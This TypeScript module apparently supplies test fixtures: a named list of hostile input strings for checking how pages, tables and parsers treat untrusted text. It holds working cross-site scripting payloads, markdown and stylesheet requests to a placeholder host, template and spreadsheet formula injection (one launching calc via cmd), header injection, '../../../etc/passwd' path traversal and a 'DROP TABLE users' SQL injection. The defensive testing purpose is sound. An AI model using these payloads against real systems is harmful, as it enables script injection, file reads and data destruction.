/** Sets a mark on its window, opens a dialog and sends a request. */
const script = (at: string) => `globalThis.hostileRan='yes';alert(1);fetch('http://${at}/fetch').catch(()=>0)`;

export interface HostileString {
  readonly name: string;
  readonly text: string;
}

/** Texts that have broken pages, tables and parsers of other products; `at` is a host that nothing may reach. */
export function hostileStrings(at: string): readonly HostileString[] {
  const run = script(at);
  const all: Readonly<Record<string, string>> = {
    'script element': `<script>${run}</script>`,
    'end of a script': `</script><script>${run}</script>`,
    'end of a title': `</title></style></textarea></template><script>${run}</script>`,
    'error handler': `<img src=x onerror="${run}">`,
    'quotes and a handler': `"'><img src=x onerror='${run.replaceAll("'", '&apos;')}'>`,
    'handler of an attribute': `" autofocus onfocus="${run}" x="`,
    'link that runs': `<a href="javascript:${run}">x</a>`,
    'address that runs': `javascript:${run}`,
    'address that runs, with a tab': `java\tscript:${run}`,
    'markdown link that runs': `[x](javascript:${run.replaceAll(' ', '')})`,
    'markdown image': `![x](http://${at}/image.png)`,
    'markdown image with a title': `![x](http://${at}/image.png "onerror=alert(1)")`,
    'markdown reference': `[x]: http://${at}/reference\n\n![x][x]`,
    'markdown address': `<http://${at}/auto> http://${at}/plain`,
    'code in markdown': `\`\`\`html\n<img src=x onerror="${run}">\n\`\`\``,
    'drawing that runs': `<svg onload="${run}"><a xlink:href="javascript:${run}"><text y="9">x</text></a></svg>`,
    'drawing in a namespace': `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
    'mutation of a template': `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
    'data address': `data:text/html,<script>${run}</script>`,
    'drawing as a data address': `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${run}"/>`,
    frame: `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
    'object and embed': `<object data="http://${at}/object"></object><embed src="http://${at}/embed">`,
    form: `<form action="http://${at}/form"><button>Submit</button><input name="attributes"></form>`,
    'base and refresh': `<base href="http://${at}/"><meta http-equiv="refresh" content="0;url=http://${at}/refresh">`,
    'style sheet': `<link rel="stylesheet" href="http://${at}/sheet"><style>*{background:url(http://${at}/css)}</style>`,
    'style address': `url(http://${at}/css)`,
    'style attribute': `<p style="background:url(http://${at}/style);position:fixed;inset:0;z-index:9999">x</p>`,
    'template braces': "{{constructor.constructor('globalThis.hostileRan=1')()}}",
    'template of a string': '$' + '{globalThis.hostileRan=1} <%= 7*7 %> #{7*7} {% x %}',
    'template helper': '{{#with "s" as |string|}}{{string.sub.apply 0 codelist}}{{/with}}',
    'texts of others': '$t(session.signOut) {{count}} {{- name}} $t(common.retry)',
    'direction controls': '\u202Eevil\u202C \u2066isolated\u2069 \u200Fmark\u200E',
    'invisible letters': 'a\u200Bb\u200Dc\uFEFFd\u00ADe',
    'many marks': `Z${'\u0300\u0301\u0302'.repeat(60)}`,
    'formula of a sheet': '=HYPERLINK("http://x.invalid","x")',
    'formula with a command': "@SUM(1+1)*cmd|' /C calc'!A0",
    prototype: '__proto__',
    constructor: 'constructor',
    'name of a method': 'toString',
    'end of a line in a header': 'x\r\nSet-Cookie: hostile=1',
    path: '../../../etc/passwd',
    'path of a web server': '..%2f..%2fpackage.json?x#y',
    'statement of a database': "'; DROP TABLE users; --",
    'null letter': 'a\u0000b',
    'half of a pair': 'a\uD800b',
    'long word': 'W'.repeat(180),
    'long text': 'hostile '.repeat(900),
  };
  return Object.entries(all).map(([name, text]) => ({ name, text }));
}

export const upTo = (length: number, { text }: HostileString) => [...text].slice(0, length).join('');
